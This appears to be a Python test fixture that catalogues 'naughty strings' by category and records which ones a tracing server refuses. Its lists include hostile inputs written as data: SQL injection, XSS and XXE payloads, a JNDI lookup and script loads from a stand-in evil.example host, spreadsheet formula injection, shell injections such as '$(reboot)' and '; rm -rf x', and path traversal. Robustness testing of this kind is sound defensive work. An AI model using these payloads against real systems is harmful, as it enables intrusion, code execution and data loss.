"""Texts that break programs, by what they break, and where Weave's own server refuses them.

They are written with escapes where an editor would hide, join or turn them. What Weave's own
server (0.53.0) refuses stands at the end, and `test_weave.py` asks it.
"""

# ruff: noqa: E501, RUF001
from __future__ import annotations

import re
from typing import Any

CATEGORIES: dict[str, tuple[str, ...]] = {
    "nothing": ("", " ", "\t", "\n", "\r\n", "\u00a0", "\u3000", "  both ends  ", "\n\nlines\n\n"),
    "controls": ("bell\x07", "back\x08\x08space", "form\x0cfeed", "esc\x1b", "delete\x7f", "c1\x80\x9b31m\x9f", "\x01\x02\x1f"),
    "not in every warehouse": ("nul\x00middle", "\x00", "high\ud83d", "\udc00low", "turned\udc00\ud83d"),
    "no characters": ("\ufffe", "\uffff", "\ufdd0", "\U0001fffe", "\U0010ffff", "\ufffd", "\ue000"),
    "directions": ("\u202egnp.exe", "\u2066\u2067\u2068\u2069", "\u200f\u200e\u061c", "\u202d\u202c", "שלום abc عالم"),
    "invisible": ("zero\u200bwidth", "\u200c\u200d", "\u2060\ufeff", "soft\u00adhyphen", "\u180e", "\u3164", "tag\U000e0041\U000e007f"),
    "lines": ("a\u2028b", "a\u2029b", "a\u0085b", "a\x0bb", "a\x1cb\x1db\x1eb", "cr\ralone"),
    "byte order marks": ("\ufeffstart", "end\ufeff", "ï»¿latin"),
    "stacked": ("Z" + "\u0335\u0489\u034f" * 12, "e\u0301\u0302\u0303", "\u0301alone", "ก็็็็็็"),
    "emoji": ("👩🏽\u200d💻", "👨\u200d👩\u200d👧\u200d👦", "🏴\U000e0067\U000e0062\U000e007f", "🇪🇺", "1\ufe0f\u20e3", "\U0001f9d1\U0001f3ff"),
    "cases": ("ß", "İ", "ı", "ǅ", "ﬁ", "ΑΣ", "K", "ÅÅ", "é", "e\u0301", "Ａ１"),
    "quotes": ("'", '"', "`", "''", '""', "\\", "\\\\", "\\'", '\\"', "\\n", "“”‘’«»", "ends with \\", "'\"`\\\"'", "´′″"),
    "SQL": (
        "'; DROP TABLE trials; --", '"; DROP SCHEMA weave CASCADE; --', "' OR '1'='1", "1 /* comment", "*/ 1", "-- 1", "# 1",
        "$$", "$tag$ body $tag$", "%s", "%(name)s", "%", "%%", "100%", ":name", ":1", "?", "{{ x }}", "{0}", "{}", "@v", "E'\\x41'",
        "U&'\\0041'", "`; SELECT 1; `", "\\.", "\\N", "NULL", "r'''", "CAST('a' AS INT64)", "_", "a_b%c", "[0]", "$.a", "a.b",
    ),
    "LookML": ("}", "{", ";;", "} ;; {", "{% if 1 %}", "{% raw %}", "{{ _user_attributes['x'] }}", "${TABLE}", "${a.b}", "#", "view: x {", "@{c}"),
    "templates": ("{{ 7*7 }}", "{%- set a=1 -%}", "{# gone #}", "<%= 7*7 %>", "#{7*7}", "${7*7}", "$(7*7)", "{{ ''.__class__ }}", "{{{x}}}", "{%"),
    "markup": (
        "<script>alert(1)</script>", "</script><script>alert(1)", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
        "</title></style></textarea>", "<!--", "-->", "<![CDATA[", "]]>", "&lt;b&gt;", "&amp;&#0;&#x1f;", '" onmouseover="alert(1)',
        "' onfocus='alert(1)", "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "//evil.example/x.js",
        "<iframe src=//evil.example>", "<a href=javascript:alert(1)>x", "<base href=//evil.example>", "<b", "<?xml version='1.0'?>",
        "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;", "url(//evil.example)", "</svg><style>@import '//evil.example'",
    ),
    "markdown": (
        "|", "a | b", "| --- |", "\\|", "# title", "- item", "1. item", "```", "`code`", "**bold**", "[x](javascript:alert(1))",
        "![x](//evil.example/x.png)", "[a]: //evil.example", "<https://evil.example>", "a](//evil.example)[b", "***", "~~~",
    ),
    "formulas": ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1+1", "\r=1+1", '=HYPERLINK("//evil.example")', "=cmd|' /C calc'!A0", "\uff1d1", ";=1", "'=1", "_x0041_"),
    "CSV": ("a,b", "a;b", 'a"b', '"a,b"', "a\nb", ",", '","', 'a\r\nb,"c'),
    "paths": ("../../etc/passwd", "..\\..\\x", "/etc/passwd", "C:\\x", "\\\\host\\share", "file:///etc/passwd", ".", "..", "~", "con", "nul.txt", "a/b", "%2e%2e%2f", "%00", "%"),
    "JSON": ("null", "true", "false", '{"a":1}', "[1]", '"text"', "NaN", "Infinity", "-Infinity", "undefined", '{"a":', "\\u0000", "\\ud800", "{}", "[]"),
    "numbers": ("1e400", "-1e400", "0x1F", "007", "1_000", "1.0", "-0", "+1", "1,5", ".5", "5.", "1e5", "९", "½", "0.1", "9223372036854775808", "-"),
    "times": ("2026-11-24", "1970-01-01T00:00:00Z", "now()", "0001-01-01", "9999-12-31T23:59:60Z"),
    "refs": (
        "weave:///acme/other/object/name:digest", "weave:///acme/other/call/0192", "weave-private:///x/y", "weave-private://///object/x:y",
        "weave:///a/b/object/c:d/attr/rows/id/e", "ref weave:///a/b/object/c:d", "weave:///", "weave://", "weave-trace-internal:///x/object/y:z",
        "wandb-artifact:///a/b/c:d",
    ),
    "shells": ("$(reboot)", "`reboot`", "; rm -rf x", "&& x", "| tee x", "$HOME", "%PATH%", "> x", "-h", "--help", "-rf", "!!", "*", "~root"),
    "terminals": ("\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b[2J\x1b[H", "\x1b]8;;//evil.example\x1b\\x\x1b]8;;\x1b\\", "a\rb", "\x9b31m", "[red]x[/red]", "[/]", "[link=//evil.example]", "\\[b]"),
    "formats": ("%s%s%n", "%x", "%.1000000f", "{0.__class__}", "{!r}", "f'{x}'", "${jndi:ldap://evil.example}", "level=error message=x", 'a="b" c=d'),
    "words": ("constructor", "__proto__", "toString", "None", "nil", "self", "this", "run_id", "value", "select", "_dlt_load_id", "scores", "output", "model"),
    "long": ("x" * 70_000, "😀" * 17_000, "ä" * 4_097, "word " * 600, "\n" * 500, "y" * 256, "\u0301" * 500),
}  # fmt: skip

TEXTS: tuple[str, ...] = tuple(dict.fromkeys(text for texts in CATEGORIES.values() for text in texts))
"""Every text once."""

SOME: frozenset[str] = frozenset(text for texts in CATEGORIES.values() for text in texts[:3])
"""The texts that many metrics of one run are named after: enough of each kind, for metrics are compared in pairs."""

REFUSED_IN_CALLS = ("weave:///", "weave-trace-internal:///x/object/y:z")
"""Refused (400) wherever a value of a call may be a ref; all other texts are taken as they are, as keys too."""

FAILING_AS_SCORER = (
    "weave:///acme/other/object/name:digest", "weave:///acme/other/call/0192", "weave:///a/b/object/c:d/attr/rows/id/e",
)  # fmt: skip
"""Taken as a scorer's name and as a key of its output, but Weave then fails (500) on the run's summary."""

LONGEST_NOTE, LONGEST_NAME = 1024, 128
"""Characters of a note, and of an object's name, above which Weave refuses (400)."""


def in_calls() -> list[str]:
    """The texts that Weave takes in calls."""
    return [text for text in TEXTS if text not in REFUSED_IN_CALLS]


def is_unicode(text: str) -> bool:
    """Whether the text has no lone surrogate: Weave breaks on one in objects, notes and bare inputs."""
    return re.search("[\ud800-\udfff]", text) is None


def is_note(text: str) -> bool:
    """Whether Weave takes the text as a note."""
    return is_unicode(text) and 0 < len(text) <= LONGEST_NOTE and text not in REFUSED_IN_CALLS


def object_name(text: str) -> str | None:
    """What the v2 API makes of a name for an object (lower case, without signs), None if it refuses it.

    Refs in calls name objects too, and are not looked at: there any text is a name.
    """
    name = re.sub(r"[^\w._-]", "", text.replace(" ", "_").replace("/", "_")).lower()
    is_fit = 0 < len(name) <= LONGEST_NAME and re.fullmatch(r"[\w._-]+", name)
    return name if is_fit and text not in REFUSED_IN_CALLS else None


_UNSTORABLE = re.compile("[\x00\ud800-\udfff]")


def stored(value: Any) -> Any:
    """The JSON value as it is promised to land: NUL and lone surrogates are U+FFFD, in names with their code."""
    if isinstance(value, str):
        return _UNSTORABLE.sub("\ufffd", value)
    if isinstance(value, list):
        return [stored(item) for item in value]
    return {stored_name(key): stored(item) for key, item in value.items()} if isinstance(value, dict) else value


def stored_name(name: str) -> str:
    """The name of a field or scorer as it is promised to land."""
    return _UNSTORABLE.sub(lambda found: f"\ufffd{ord(found[0]):04x}", name)
